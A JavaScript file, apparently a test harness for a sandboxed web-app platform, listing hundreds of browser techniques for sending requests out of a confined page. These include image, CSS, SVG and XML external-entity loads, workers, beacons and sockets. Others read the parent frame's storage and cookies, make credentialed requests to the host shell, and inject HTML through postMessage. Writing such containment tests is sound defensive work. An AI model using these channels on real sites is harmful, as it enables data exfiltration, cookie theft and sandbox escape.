"use strict";
// Ways out that leave the page as it is: all are tried together.
Object.assign(channels, {
  // Pictures.
  "img-src": t => { make("img", { src: t.url }); },
  "img-constructor": t => { new Image().src = t.url; },
  "img-srcset": t => { make("img", { srcset: `${t.url} 1x` }); },
  "img-picture": t => { add(`<picture><source srcset="${t.url}"><img src="data:,"></picture>`); },
  "img-lazy": t => { make("img", { loading: "lazy", src: t.url, width: 9, height: 9 }).scrollIntoView(); },
  "img-cors": t => { make("img", { crossorigin: "anonymous", src: t.url }); },
  "img-innerhtml": t => { add(`<b><img src=${t.url}></b>`); },
  "img-own-redirect": t => { make("img", { src: own("/redirect", { to: t.url }) }); },
  "img-base-href": async t => {
    const { contentDocument } = await frame({ srcdoc: "<p>" });
    make("base", { href: t.url + "/" }, contentDocument.head);
    make("img", { src: "relative" }, contentDocument.body);
  },
  "img-attributionsrc": t => { make("img", { attributionsrc: t.url, src: "data:," }); },
  "input-image": t => { make("input", { type: "image", src: t.url }); },
  "body-background": t => { document.body.setAttribute("background", t.url); },
  "table-background": t => { add(`<table background="${t.url}"><td>x</table>`); },
  "image-element-decode": t => { const i = new Image(); i.src = t.url; return i.decode(); },
  "canvas-image-bitmap": t => fetch(t.url).then(r => r.blob()).then(createImageBitmap),

  // Media.
  "video-src": t => { make("video", { src: t.url, preload: "auto" }).load(); },
  "video-poster": t => { make("video", { poster: t.url }); },
  "video-source": t => { add(`<video preload=auto><source src="${t.url}"></video>`).load(); },
  "audio-src": t => { make("audio", { src: t.url, preload: "auto" }); },
  "audio-constructor": t => { new Audio(t.url).load(); },
  "track-src": t => { add(`<video crossorigin><track default kind=subtitles src="${t.url}"></video>`).textTracks[0].mode = "showing"; },
  "hls-playlist": t => {
    const list = `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${t.url}.ts\n#EXT-X-ENDLIST\n`;
    make("video", { src: own("/document", { type: "application/vnd.apple.mpegurl", body: list }), preload: "auto" }).load();
  },
  "media-session-artwork": t => { navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: t.url }] }); },

  // SVG, MathML, XML.
  "svg-image-href": t => { add(`<svg><image href="${t.url}" width=9 height=9 /></svg>`); },
  "svg-image-xlink": t => { add(`<svg><image xlink:href="${t.url}" width=9 height=9 /></svg>`); },
  "svg-image-set": t => { add(`<svg><image width=9 height=9><set attributeName="href" to="${t.url}" /></image></svg>`); },
  "svg-feimage": t => { add(`<svg><filter id=feimage><feImage href="${t.url}" /></filter><rect width=9 height=9 filter="url(#feimage)" /></svg>`); },
  "svg-use": t => { add(`<svg><use href="${t.url}#x" /></svg>`); },
  "svg-filter": t => { add(`<svg><rect width=9 height=9 filter="url(${t.url}#x)" /></svg>`); },
  "svg-mask": t => { add(`<svg><rect width=9 height=9 style="mask:url(${t.url}#x)" /></svg>`); },
  "svg-fill": t => { add(`<svg><rect width=9 height=9 fill="url(${t.url}#x)" /></svg>`); },
  "svg-script": t => {
    const svg = add("<svg></svg>"), script = document.createElementNS("http://www.w3.org/2000/svg", "script");
    script.setAttribute("href", t.url);
    svg.append(script);
  },
  "svg-foreignobject": t => { add(`<svg><foreignObject width=9 height=9><img src="${t.url}"></foreignObject></svg>`); },
  "svg-document": t => frame({ src: own("/document", { type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${t.url}" width="9" height="9"/></svg>` }) }),
  "svg-stylesheet-instruction": t => frame({ src: own("/document", { type: "image/svg+xml", body: `<?xml-stylesheet href="${t.url}"?><svg xmlns="http://www.w3.org/2000/svg"/>` }) }),
  "svg-as-image": t => { make("img", { src: "data:image/svg+xml," + encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${t.url}" width="9" height="9"/></svg>`) }); },
  "mathml-image": t => { add(`<math><mtext><img src="${t.url}"></mtext></math>`); },
  "xml-stylesheet": t => frame({ src: own("/document", { type: "text/xml", body: `<?xml-stylesheet type="text/css" href="${t.url}"?><a/>` }) }),
  "xslt": t => frame({ src: own("/document", { type: "text/xml", body: `<?xml-stylesheet type="text/xsl" href="${t.url}"?><a/>` }) }),
  "xslt-result": t => {
    const sheet = own("/document", { type: "text/xsl", body: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body><img src="${t.url}"/></body></html></xsl:template></xsl:stylesheet>` });
    return frame({ src: own("/document", { type: "text/xml", body: `<?xml-stylesheet type="text/xsl" href="${sheet.replaceAll("&", "&amp;")}"?><a/>` }) });
  },
  "xml-external-entity": t => frame({ src: own("/document", { type: "text/xml", body: `<!DOCTYPE a [<!ENTITY e SYSTEM "${t.url}">]><a>&e;</a>` }) }),
  "xml-dtd": t => frame({ src: own("/document", { type: "text/xml", body: `<!DOCTYPE a SYSTEM "${t.url}"><a/>` }) }),
  "xhtml-image": t => frame({ src: own("/document", { type: "application/xhtml+xml", body: `<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="${t.url}"/></body></html>` }) }),

  // Styles.
  "css-background": t => { css(`.styled { background: url(${t.url}) }`); },
  "css-inline": t => { make("p", { style: `background: url(${t.url})` }).textContent = "x"; },
  "css-image-set": t => { css(`.styled { background: image-set("${t.url}" 1x) }`); },
  "css-variable": t => { css(`.styled { --out: url(${t.url}); background: var(--out) }`); },
  "css-import": t => { css(`@import "${t.url}";`); },
  "css-import-blob": t => { make("link", { rel: "stylesheet", href: blob(`@import "${t.url}";`, "text/css") }); },
  "css-import-data": t => { make("link", { rel: "stylesheet", href: `data:text/css,@import "${t.url}";` }); },
  "css-font-face": t => { css(`@font-face { font-family: out; src: url(${t.url}) } .styled { font-family: out }`); },
  "css-cursor": t => { css(`.styled { cursor: url(${t.url}), auto }`); },
  "css-list-image": t => { css(`.styled { display: list-item; list-style-image: url(${t.url}) }`); },
  "css-border-image": t => { css(`.styled { border: 3px solid; border-image: url(${t.url}) 3 }`); },
  "css-mask-image": t => { css(`.styled { mask-image: url(${t.url}) }`); },
  "css-content": t => { css(`.styled::after { content: url(${t.url}) }`); },
  "css-shape-outside": t => { css(`.styled { float: left; shape-outside: url(${t.url}) }`); },
  "css-filter": t => { css(`.styled { filter: url(${t.url}#x) }`); },
  "css-clip-path": t => { css(`.styled { clip-path: url(${t.url}#x) }`); },
  "css-cross-fade": t => { css(`.styled { background: -webkit-cross-fade(url(${t.url}), url(data:,), 50%) }`); },
  "css-adopted-sheet": t => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`.adopted { background: url(${t.url}) }`);
    document.adoptedStyleSheets.push(sheet);
    add('<p class="adopted">x</p>');
  },
  "css-own-sheet": t => { make("link", { rel: "stylesheet", href: own("/document", { type: "text/css", body: `.styled { background: url(${t.url}) }` }) }); css(""); },
  "font-face-api": t => new FontFace("out2", `url(${t.url})`).load(),

  // Links.
  "link-stylesheet": t => { make("link", { rel: "stylesheet", href: t.url }, document.head); },
  "link-stylesheet-print": t => { make("link", { rel: "stylesheet", media: "print", href: t.url }, document.head); },
  "link-icon": t => { make("link", { rel: "icon", href: t.url }, document.head); },
  "link-manifest": t => { make("link", { rel: "manifest", href: t.url }, document.head); },
  "link-preload-image": t => { make("link", { rel: "preload", as: "image", href: t.url }, document.head); },
  "link-preload-imagesrcset": t => { make("link", { rel: "preload", as: "image", imagesrcset: `${t.url} 1x` }, document.head); },
  "link-preload-font": t => { make("link", { rel: "preload", as: "font", crossorigin: "", href: t.url }, document.head); },
  "link-preload-fetch": t => { make("link", { rel: "preload", as: "fetch", crossorigin: "", href: t.url }, document.head); },
  "link-modulepreload": t => { make("link", { rel: "modulepreload", href: t.url }, document.head); },
  "link-prefetch": t => { make("link", { rel: "prefetch", href: t.url }, document.head); },
  "link-prerender": t => { make("link", { rel: "prerender", href: t.url }, document.head); },
  "link-preconnect": t => { make("link", { rel: "preconnect", href: t.url }, document.head); },
  "link-preconnect-name": t => { make("link", { rel: "preconnect", href: t.named }, document.head); },
  "link-dns-prefetch": t => { make("link", { rel: "dns-prefetch", href: t.lookup }, document.head); },
  "link-dns-prefetch-asked-for": t => {
    make("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
    make("link", { rel: "dns-prefetch", href: t.lookup }, document.head);
  },
  "anchor-dns-prefetch": t => {
    make("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
    make("a", { href: t.lookup }).textContent = "x";
  },
  "link-compression-dictionary": t => { make("link", { rel: "compression-dictionary", href: t.url }, document.head); },
  "speculation-prefetch": t => { speculate({ prefetch: [{ source: "list", urls: [t.url], eagerness: "immediate" }] }); },
  "speculation-prerender": t => { speculate({ prerender: [{ source: "list", urls: [t.url], eagerness: "immediate" }] }); },
  "speculation-prefetch-anonymous": t => { speculate({ prefetch: [{ source: "list", urls: [t.url], requires: ["anonymous-client-ip-when-cross-origin"], eagerness: "immediate" }] }); },

  // Scripts.
  "script-src": t => { make("script", { src: t.url }); },
  "script-module": t => { make("script", { type: "module", src: t.url }); },
  "script-module-import": t => {
    const script = make("script", { type: "module" }, null);
    script.textContent = `import ${JSON.stringify(t.url)}`;
    document.body.append(script);
  },
  "script-import-dynamic": t => import(t.url),
  "script-import-json": t => import(t.url, { with: { type: "json" } }),
  "script-importmap": t => {
    const map = make("script", { type: "importmap" }, null);
    map.textContent = JSON.stringify({ imports: { out: t.url } });
    document.head.append(map);
    return import("out");
  },
  "script-eval-image": t => { (0, eval)(pixel(t)); },
  "script-function-fetch": t => { new Function(request(t))(); },
  "script-timeout-text": t => { setTimeout(pixel(t), 0); },

  // Requests by script.
  "fetch": t => fetch(t.url),
  "fetch-no-cors": t => fetch(t.url, { mode: "no-cors" }),
  "fetch-keepalive": t => fetch(t.url, { mode: "no-cors", keepalive: true }),
  "fetch-post": t => fetch(t.url, { method: "POST", mode: "no-cors", body: "secret" }),
  "fetch-preflight": t => fetch(t.url, { method: "PUT", headers: { "X-Secret": "1" } }),
  "fetch-credentials": t => fetch(t.url, { credentials: "include", mode: "no-cors" }),
  "fetch-own-redirect": t => fetch(own("/redirect", { to: t.url })),
  "fetch-own-redirect-no-cors": t => fetch(own("/redirect", { to: t.url }), { mode: "no-cors" }),
  "fetch-later": t => { fetchLater(t.url, { activateAfter: 0 }); },
  "fetch-lookup": t => fetch(t.lookup, { mode: "no-cors" }),
  "fetch-name": t => fetch(t.named, { mode: "no-cors" }),
  "xhr": t => { const x = new XMLHttpRequest(); x.open("GET", t.url); x.send(); },
  "xhr-post": t => { const x = new XMLHttpRequest(); x.open("POST", t.url); x.send("secret"); },
  "xhr-sync": t => { const x = new XMLHttpRequest(); x.open("GET", t.url, false); x.send(); },
  "beacon": t => { navigator.sendBeacon(t.url, "secret"); },
  "websocket": t => { new WebSocket(t.socket); },
  "websocket-stream": t => { new WebSocketStream(t.socket); },
  "eventsource": t => { new EventSource(t.url); },
  "webtransport": t => { new WebTransport(`https://127.0.0.2:${t.port}/`).closed.catch(() => {}); },
  "cache-add": t => caches.open("out").then(cache => cache.add(new Request(t.url, { mode: "no-cors" }))),
  "wasm-streaming": t => WebAssembly.compileStreaming(fetch(t.url)),

  // Forms that answer into a frame.
  "form-get-frame": t => form(t, { method: "get" }),
  "form-post-frame": t => form(t, { method: "post" }),
  "form-multipart-frame": t => form(t, { method: "post", enctype: "multipart/form-data" }),
  "form-text-frame": t => form(t, { method: "post", enctype: "text/plain" }),
  "form-own-redirect-frame": t => form({ ...t, url: own("/redirect", { to: t.url }) }, { method: "post" }),
  "form-formaction": t => {
    make("iframe", { name: "formaction" });
    add(`<form method=post target=formaction action="/form"><button formaction="${t.url}">x</button></form>`).querySelector("button").click();
  },

  // Frames.
  "iframe-src": t => { make("iframe", { src: t.url }); },
  "iframe-lookup": t => { make("iframe", { src: t.lookup }); },
  "iframe-own-redirect": t => { make("iframe", { src: own("/redirect", { to: t.url }) }); },
  "iframe-location": async t => { (await frame({ src: "/empty.html" })).contentWindow.location = t.url; },
  "iframe-navigation-api": async t => { (await frame({ src: "/empty.html" })).contentWindow.navigation.navigate(t.url); },
  "iframe-exchange": t => { make("iframe", { src: own("/exchange", { to: secure(t.url) }) }); },
  "iframe-meta-refresh": t => { make("iframe", { srcdoc: `<meta http-equiv=refresh content="0;url=${t.url}">` }); },
  "iframe-refresh-header": t => { make("iframe", { src: own("/headers", { Refresh: `0;url=${t.url}` }) }); },
  "iframe-javascript": t => { make("iframe", { src: `javascript:location=${JSON.stringify(t.url)}` }); },
  "iframe-link-click": async t => {
    const { contentDocument } = await frame({ src: "/empty.html" });
    make("a", { href: t.url }, contentDocument.body).click();
  },
  "iframe-srcdoc": t => { make("iframe", { srcdoc: both(t) }); },
  "iframe-srcdoc-sandboxed": t => { make("iframe", { sandbox: "allow-scripts", srcdoc: both(t) }); },
  "iframe-data": t => { make("iframe", { src: "data:text/html," + encodeURIComponent(both(t)) }); },
  "iframe-blob": t => { make("iframe", { src: blob(both(t)) }); },
  "iframe-about-blank": t => { const { contentDocument: d } = make("iframe"); d.write(both(t)); d.close(); },
  "iframe-about-blank-fetch": t => make("iframe").contentWindow.fetch(t.url, { mode: "no-cors" }),
  "iframe-credentialless": t => foreign(t, own("/empty.html"), { credentialless: "" }),
  "iframe-credentialless-img": async t => { (await frame({ src: "/empty.html" }, f => { f.credentialless = true; })).contentDocument.body.innerHTML = both(t); },
  "iframe-own-error": t => foreign(t, "/no-such-page"),
  "iframe-host-error": t => foreign(t, "/_sandstorm-init?sessionid=0&path=/"),
  "iframe-host-start": t => foreign(t, "/_sandstorm-init"),
  "iframe-too-long": t => foreign(t, "/empty.html?" + "a".repeat(9000)),
  "iframe-bad-path": t => foreign(t, "/%00"),
  "iframe-robots": t => foreign(t, "/robots.txt"),
  "iframe-favicon": t => foreign(t, "/favicon.ico"),
  "iframe-download-answer": t => foreign(t, own("/download", { name: "x" })),
  "iframe-xml-error": t => foreign(t, own("/document", { type: "text/xml", body: "<broken" })),
  "iframe-frameset": t => { make("iframe", { src: blob(`<frameset><frame src="${t.url}"></frameset>`) }); },
  "iframe-allow-everything": t => { make("iframe", { allow: "*", srcdoc: both(t) }); },
  "iframe-csp-attribute": t => { make("iframe", { csp: "default-src *", srcdoc: both(t) }); },
  "fencedframe": t => { const f = make("fencedframe"); f.config = new FencedFrameConfig(t.url); },
  "object-data": t => { make("object", { data: t.url }); },
  "object-image": t => { make("object", { type: "image/png", data: t.url }); },
  "embed-src": t => { make("embed", { src: t.url }); },
  "embed-pdf": t => { make("embed", { type: "application/pdf", src: t.url }); },

  // Workers and worklets.
  "worker-remote": t => { new Worker(t.url); },
  "worker-blob-fetch": t => { new Worker(blob(request(t), "text/javascript")); },
  "worker-data-fetch": t => { new Worker("data:text/javascript," + encodeURIComponent(request(t))); },
  "worker-own-fetch": t => { new Worker(own("/document", { type: "text/javascript", body: request(t) })); },
  "worker-import-scripts": t => { new Worker(blob(`importScripts(${JSON.stringify(t.url)})`, "text/javascript")); },
  "worker-module-import": t => { new Worker(blob(`import ${JSON.stringify(t.url)}`, "text/javascript"), { type: "module" }); },
  "worker-websocket": t => { new Worker(blob(`new WebSocket(${JSON.stringify(t.socket)})`, "text/javascript")); },
  "worker-nested": t => { new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(request(t))}])))`, "text/javascript")); },
  "sharedworker-remote": t => { new SharedWorker(t.url); },
  "sharedworker-blob": t => { new SharedWorker(blob(request(t), "text/javascript")); },
  "sharedworker-own": t => { new SharedWorker(own("/document", { type: "text/javascript", body: request(t) })); },
  "serviceworker": async t => {
    const script = own("/document", { type: "text/javascript", body: `oninstall=()=>{${request(t)}}` });
    const registration = await navigator.serviceWorker.register(script);
    await later(500);
    await registration.unregister();
    return reached("a service worker was registered");
  },
  "serviceworker-module": async t => {
    const script = own("/document", { type: "text/javascript", body: `import ${JSON.stringify(t.url)}` });
    await navigator.serviceWorker.register(script, { type: "module", scope: "/module" });
  },
  "audio-worklet": t => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(t.url),
  "audio-worklet-import": t => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(blob(`import ${JSON.stringify(t.url)}`, "text/javascript")),
  "paint-worklet": t => CSS.paintWorklet.addModule(t.url),
  "shared-storage-worklet": t => sharedStorage.worklet.addModule(t.url),

  // Things a browser fetches in the background.
  "csp-report-uri": t => { make("iframe", { src: own("/headers", { "Content-Security-Policy": `img-src 'none'; report-uri ${t.url}`, body: "<img src=/x>" }) }); },
  "csp-report-only": t => { make("iframe", { src: own("/headers", { "Content-Security-Policy-Report-Only": `img-src 'none'; report-uri ${t.url}`, body: "<img src=/x>" }) }); },
  "csp-meta-report": t => { make("iframe", { srcdoc: `<meta http-equiv=content-security-policy content="img-src 'none'; report-uri ${t.url}"><img src=/x>` }); },
  "reporting-endpoints": t => { make("iframe", { src: own("/headers", { "Reporting-Endpoints": `default="${t.url}"`, "Content-Security-Policy-Report-Only": "img-src 'none'; report-to default", body: "<img src=/x>" }) }); },
  "network-error-logging": t => { make("iframe", { src: own("/headers", { "Report-To": JSON.stringify({ group: "n", max_age: 99, endpoints: [{ url: t.url }] }), NEL: JSON.stringify({ report_to: "n", max_age: 99, success_fraction: 1 }) }) }); },
  "header-link-preload": t => { make("iframe", { src: own("/headers", { Link: `<${t.url}>; rel=preload; as=image` }) }); },
  "header-link-preconnect": t => { make("iframe", { src: own("/headers", { Link: `<${t.url}>; rel=preconnect` }) }); },
  "header-link-dns-prefetch": t => { make("iframe", { src: own("/headers", { Link: `<${t.lookup}>; rel=dns-prefetch` }) }); },
  "header-link-stylesheet": t => { make("iframe", { src: own("/headers", { Link: `<${t.url}>; rel=stylesheet` }) }); },
  "header-speculation-rules": t => { make("iframe", { src: own("/headers", { "Speculation-Rules": `"${t.url}"` }) }); },
  "header-attribution": t => fetch(own("/headers", { "Attribution-Reporting-Redirect": t.url })),

  // What belongs to others: the page around us, its storage, hosts beside ours.
  "parent-dom": () => reached(parent.document.title),
  "parent-storage": () => reached(parent.localStorage.getItem("shell-secret")),
  "parent-cookie": () => document.cookie.includes("shell-secret") || parent.document.cookie.includes("shell-secret") ? reached("shell-secret") : null,
  "parent-location": () => reached(parent.location.href),
  "parent-frame-element": () => reached(frameElement.tagName),
  "parent-name": () => { parent.name = "taken"; return reached(parent.name); },
  "parent-function": () => reached(typeof parent.eval),
  "parent-referrer": () => document.referrer.includes("sessionid") || document.referrer.includes("/grain/") || document.referrer.includes("shell.html") ? reached(document.referrer) : null,
  "document-domain": () => {
    document.domain = location.hostname.split(".").slice(-1)[0];
    return reached(parent.document.title);
  },
  "cookie-for-all-hosts": () => {
    document.cookie = `tossed=1; domain=${location.hostname.split(".").slice(-1)[0]}`;
    document.cookie = `tossed=1; domain=${location.hostname.split(".").slice(-2).join(".")}; SameSite=None; Secure`;
    return document.cookie.includes("tossed") ? reached("tossed") : null;
  },
  "own-session-cookie": () => /sandstorm-sid/.test(document.cookie) ? reached("our session") : null,
  "shell-fetch": () => fetch(shell() + "/", { credentials: "include" }).then(r => r.text()).then(text => reached(text.length)),
  "shell-fetch-no-cors": () => fetch(shell() + "/", { credentials: "include", mode: "no-cors" }).then(() => reached("sent")),
  "shell-form-post": () => fetch(shell() + "/form", { method: "POST", mode: "no-cors", credentials: "include", body: "title=x" }).then(() => reached("sent")),
  "shell-script": () => loaded(make("script", { src: shell() + "/hostile.js?again" })).then(() => reached("ran")),
  "shell-socket": () => new Promise(resolve => { new WebSocket(shell().replace("http", "ws") + "/ws").onopen = () => resolve(reached("open")); }),
  "shell-frame": async () => {
    const inner = await frame({ src: shell() + "/" });
    return inner.contentDocument ? reached(inner.contentDocument.title) : null;
  },
  "earlier-session-storage": () => localStorage.getItem("earlier") ? reached(localStorage.getItem("earlier")) : null,
  "earlier-session-cookie": () => document.cookie.includes("earlier") ? reached("earlier") : null,
  "earlier-session-database": async () => (await indexedDB.databases()).some(d => d.name === "earlier") ? reached("earlier") : null,
  "earlier-session-cache": async () => await caches.has("earlier") ? reached("earlier") : null,
  "other-tab-channel": () => new Promise(resolve => { new BroadcastChannel("tabs").onmessage = e => resolve(reached(e.data)); }),
  "other-tab-storage-event": () => new Promise(resolve => addEventListener("storage", e => resolve(reached(e.key)))),
  "powerful-features": () => {
    const allowed = document.featurePolicy.allowedFeatures();
    return allowed.length ? reached(allowed.join(" ")) : null;
  },
  "device-camera": () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => reached("camera")),
  "permission-notifications": async () => (await navigator.permissions.query({ name: "notifications" })).state !== "denied" ? reached("may ask for notifications") : null,
  "permission-geolocation": async () => (await navigator.permissions.query({ name: "geolocation" })).state !== "denied" ? reached("may ask for the place") : null,
  "permission-local-fonts": async () => reached((await queryLocalFonts()).length),
  "cross-origin-isolation": () => self.crossOriginIsolated ? reached("shared memory and fine clocks") : null,

  // Messages to the page around us.
  "message-title-html": t => { parent.postMessage({ setTitle: `</title><img src="${t.url}">` }, "*"); },
  "message-path-away": t => { parent.postMessage({ setPath: `//127.0.0.2:${t.port}/` }, "*"); },
  "message-path-backslash": t => { parent.postMessage({ setPath: `/\\127.0.0.2:${t.port}/` }, "*"); },
  "message-template-html": t => { parent.postMessage({ renderTemplate: { rpcId: "1", template: `<img src="${t.url}">` } }, "*"); },
  "message-prototype": t => { parent.postMessage(JSON.parse(`{"__proto__":{"setTitle":"<img src=${t.url}>"}}`), "*"); },
  "message-from-inner-frame": t => { make("iframe", { srcdoc: `<script>top.postMessage({setTitle:'<img src="${t.url}">'},"*")</scr` + "ipt>" }); },

  // Questions to other services of the browser.
  "payment-method": t => new PaymentRequest([{ supportedMethods: t.url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  "federated-login": t => navigator.credentials.get({ identity: { providers: [{ configURL: t.url, clientId: "x" }] } }),
  "interest-group": t => navigator.joinAdInterestGroup({ owner: `https://127.0.0.2:${t.port}`, name: "x", biddingLogicURL: t.url, lifetimeMs: 9 }, 9),
  "background-fetch": async t => (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", t.url),
});

const speculate = rules => {
  const script = make("script", { type: "speculationrules" }, null);
  script.textContent = JSON.stringify(rules);
  document.head.append(script);
};

const form = (t, attributes) => {
  make("iframe", { name: "frame-" + t.name });
  const form = make("form", { action: t.url, target: "frame-" + t.name, ...attributes });
  make("input", { name: "secret", value: "1" }, form);
  form.submit();
};

/// Opens an address of our own host in a frame, and calls home from inside: that page's policy counts, not ours.
const foreign = async (t, address, attributes = {}) => {
  const inner = await frame({ src: address, ...attributes }), scope = inner.contentWindow;
  scope.eval(pixel(t));
  await scope.fetch(t.url, { mode: "no-cors" });
};

/// Leaves marks for the `earlier-…` channels of the next session, and calls other tabs.
const leaveMarks = async () => {
  localStorage.setItem("earlier", "1");
  document.cookie = "earlier=1; SameSite=None; Secure; Partitioned";
  indexedDB.open("earlier");
  await caches.open("earlier");
  new BroadcastChannel("tabs").postMessage("another tab");
  setInterval(() => {
    new BroadcastChannel("tabs").postMessage("another tab");
    localStorage.setItem("tick", Date.now());
  }, 200);
};
